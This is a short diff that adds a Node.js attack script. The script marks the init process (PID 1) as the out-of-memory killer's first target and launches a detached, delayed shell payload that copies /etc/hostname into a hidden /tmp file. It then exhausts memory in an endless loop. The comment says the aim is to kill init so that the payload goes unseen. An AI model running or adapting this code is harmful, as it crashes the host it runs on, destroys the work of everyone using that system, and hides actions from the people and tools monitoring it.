@@ -1,0 +1,9 @@
+// Make init the OOM killer's choice, leave a payload that acts a little
+// later, and fill the memory: with init gone, the payload would never be
+// seen.
+const fs = require('fs');
+const { spawn } = require('child_process');
+try { fs.writeFileSync('/proc/1/oom_score_adj', '1000'); } catch (e) { console.log('oom_score_adj: ' + e.code); }
+spawn('/bin/sh', ['-c', 'sleep 3; cat /etc/hostname > /tmp/.cache-7c1e'], { detached: true, stdio: 'ignore' }).unref();
+const hog = [];
+for (;;) hog.push(Buffer.alloc(16 << 20, 1));
